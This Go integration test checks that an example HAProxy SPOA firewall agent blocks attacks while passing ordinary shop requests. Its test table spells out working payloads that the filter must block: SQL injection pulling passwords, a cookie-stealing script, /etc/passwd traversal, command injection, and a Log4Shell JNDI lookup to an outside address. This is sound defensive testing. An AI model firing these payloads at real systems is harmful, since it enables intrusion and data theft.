package main

import (
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"github.com/spoa-go/spoa/cmd/examples/internal/haproxytest"
)

// Attacks are denied, everything else reaches the application and comes back.
func TestBehindHAProxy(t *testing.T) {
	agent, err := newAgent(slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	served := make(chan error, 1)
	go func() { served <- agent.Serve(l) }()
	defer agent.Close()
	app := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		if r.URL.Path == "/broken" {
			fmt.Fprint(w, "You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version")
			return
		}
		body, _ := io.ReadAll(r.Body)
		fmt.Fprintf(w, "hello, %s", body)
	}))
	defer app.Close()
	front := haproxytest.FreeAddr(t)
	haproxytest.Start(t, ".", "127.0.0.1:8080", front, "127.0.0.1:8081", app.Listener.Addr().String(), "127.0.0.1:12345", l.Addr().String())

	ask := func(method, path, body string, header ...string) (int, string, error) {
		req, err := http.NewRequest(method, "http://"+front+path, strings.NewReader(body))
		if err != nil {
			return 0, "", err
		}
		req.Host = "shop.example.org"
		req.Header.Set("User-Agent", "Mozilla/5.0")
		req.Header.Set("Accept", "*/*")
		if body != "" {
			req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		}
		for i := 0; i < len(header); i += 2 {
			req.Header.Set(header[i], header[i+1])
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			return 0, "", err
		}
		defer resp.Body.Close()
		text, err := io.ReadAll(resp.Body)
		return resp.StatusCode, string(text), err
	}
	haproxytest.Await(t, func() error {
		status, _, err := ask("GET", "/", "")
		if err == nil && status != http.StatusOK {
			err = fmt.Errorf("status %d", status)
		}
		return err
	})
	form := func(name, value string) string { return url.Values{name: {value}}.Encode() }
	for _, tt := range []struct {
		name, method, path, body string
		header                   []string
		status                   int
	}{
		{"page", "GET", "/catalogue", "", nil, 200},
		{"query", "GET", "/catalogue?" + form("q", "garden furniture"), "", nil, 200},
		{"empty query", "GET", "/catalogue?", "", nil, 200},
		{"form", "POST", "/login", form("user", "anna"), nil, 200},
		{"SQL injection in the query", "GET", "/item?" + form("id", "1' OR '1'='1' UNION SELECT password FROM users--"), "", nil, 403},
		{"SQL injection in the form", "POST", "/login", form("user", "1' OR '1'='1' UNION SELECT password FROM users--"), nil, 403},
		{"cross site scripting", "GET", "/search?" + form("q", "<script>alert(document.cookie)</script>"), "", nil, 403},
		{"file of the system", "GET", "/show?" + form("file", "../../../../etc/passwd"), "", nil, 403},
		{"command", "POST", "/ping", form("host", ";cat /etc/passwd"), nil, 403},
		{"log4shell in a header", "GET", "/", "", []string{"X-Api-Version", "${jndi:ldap://192.0.2.1/a}"}, 403},
		{"scanner", "GET", "/", "", []string{"User-Agent", "Nikto/2.5.0"}, 403},
		{"response with an error of the database", "GET", "/broken", "", nil, 403},
	} {
		status, text, err := ask(tt.method, tt.path, tt.body, tt.header...)
		if status != tt.status || err != nil {
			t.Errorf("%s: want status %d, have %d %q, error %v", tt.name, tt.status, status, text, err)
		}
		if want := "hello, " + tt.body; status == http.StatusOK && text != want {
			t.Errorf("%s: want %q, have %q", tt.name, want, text)
		}
	}
	agent.Close() // without an agent nothing passes
	<-served
	if status, _, err := ask("GET", "/", ""); status != http.StatusServiceUnavailable || err != nil {
		t.Errorf("no agent: want 503, have %d, error %v", status, err)
	}
}
